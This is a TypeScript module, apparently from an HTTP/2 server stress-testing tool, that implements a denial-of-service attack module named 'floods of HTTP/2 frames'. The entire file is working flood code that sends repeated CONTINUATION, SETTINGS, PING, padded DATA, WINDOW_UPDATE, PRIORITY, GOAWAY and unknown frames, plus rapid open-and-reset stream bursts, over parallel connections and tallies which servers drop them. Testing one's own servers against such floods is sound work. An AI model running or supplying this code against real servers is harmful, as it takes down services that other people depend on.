/** Floods of frames that carry nothing, or take something back: a kind a connection. */
import { once } from 'node:events'
import { field, flags, frame, frames, requestFields, setting, uint32 } from '../../../support/http2-frames.ts'
import type { Attack } from '../attack.ts'
import { flood } from '../tally.ts'
import type { Target } from '../target.ts'
import { authorityOf, openSession } from './sessions.ts'

const stayMs = 4_000
const many = <T>(count: number, make: (at: number) => T) => Array.from({ length: count }, (_, at) => make(at))

/** What a connection begins with, and what it sends again and again; `next` is its number. */
type Flood = { first?: Buffer; again: (next: number) => Buffer[] }

function floodsOf(target: Target): Flood[] {
  const fields = requestFields({ authority: authorityOf(target, 0), path: '/' })
  const { endStream, endHeaders } = flags
  const streamOf = (next: number, at: number) => 2 * (50 * next + at) + 1
  const requested = (stream: number) => frame(frames.headers, endStream | endHeaders, stream, fields)
  const unended = frame(frames.headers, endStream, 1, fields)
  const posted = frame(frames.headers, endHeaders, 1, fields)
  const padded = Buffer.concat([Buffer.from([255]), Buffer.alloc(255)])
  return [
    {
      first: unended,
      again: (next) => [frame(frames.continuation, 0, 1, field(`x-${next}`, 'y'.repeat(100)))],
    },
    { first: unended, again: () => many(500, () => frame(frames.continuation, 0, 1)) },
    { again: () => many(200, () => frame(frames.settings, 0, 0, setting(3, 100))) },
    {
      again: () =>
        [0, 4_096, 2 ** 32 - 1, 65_536].map((size) => frame(frames.settings, 0, 0, setting(1, size))),
    },
    { again: () => many(200, () => frame(frames.ping, 0, 0, Buffer.alloc(8, 'p'))) },
    { first: posted, again: () => many(500, () => frame(frames.data, 0, 1)) },
    { first: posted, again: () => many(100, () => frame(frames.data, 8, 1, padded)) },
    { first: requested(1), again: () => many(500, () => frame(frames.windowUpdate, 0, 1, uint32(1))) },
    {
      again: () =>
        many(300, (at) =>
          frame(frames.priority, 0, 2 * at + 3, Buffer.concat([uint32(2 * at + 1), Buffer.from([5])])),
        ),
    },
    { again: () => many(50, () => frame(frames.goAway, 0, 0, Buffer.alloc(1_008))) },
    { again: () => many(300, () => frame(10, 0, 0, Buffer.from([0, 0, 120]))) },
    ...[
      (stream: number) => frame(frames.reset, 0, stream, uint32(8)),
      (stream: number) => frame(frames.windowUpdate, 0, stream, uint32(2 ** 31 - 1)),
      (stream: number) => frame(frames.data, 0, stream, Buffer.from('x')),
    ].map((after) => ({
      again: (next: number) =>
        many(50, (at) => {
          const stream = streamOf(next, at)
          return Buffer.concat([requested(stream), after(stream)])
        }),
    })),
  ]
}

export const controlFrames: Attack = {
  name: 'floods of HTTP/2 frames',
  prepare(target) {
    const floods = floodsOf(target)
    return (signal) =>
      flood({ atOnce: 8, pauseMs: 100, signal }, async (index) => {
        const { first = Buffer.alloc(0), again } = floods[index % floods.length] ?? { again: () => [] }
        const socket = await openSession(target, index, signal)
        socket.resume().write(first)
        const endMs = performance.now() + stayMs
        for (let next = 0; !socket.destroyed && performance.now() < endMs; next += 1) {
          const isTaken = socket.write(Buffer.concat(again(next)))
          if (!isTaken)
            await once(socket, 'drain', {
              signal: AbortSignal.any([signal, AbortSignal.timeout(stayMs)]),
            }).catch(() => socket.destroy())
        }
        const outcome = socket.destroyed ? 'ended' : 'borne'
        socket.destroy()
        return outcome
      })
  },
}
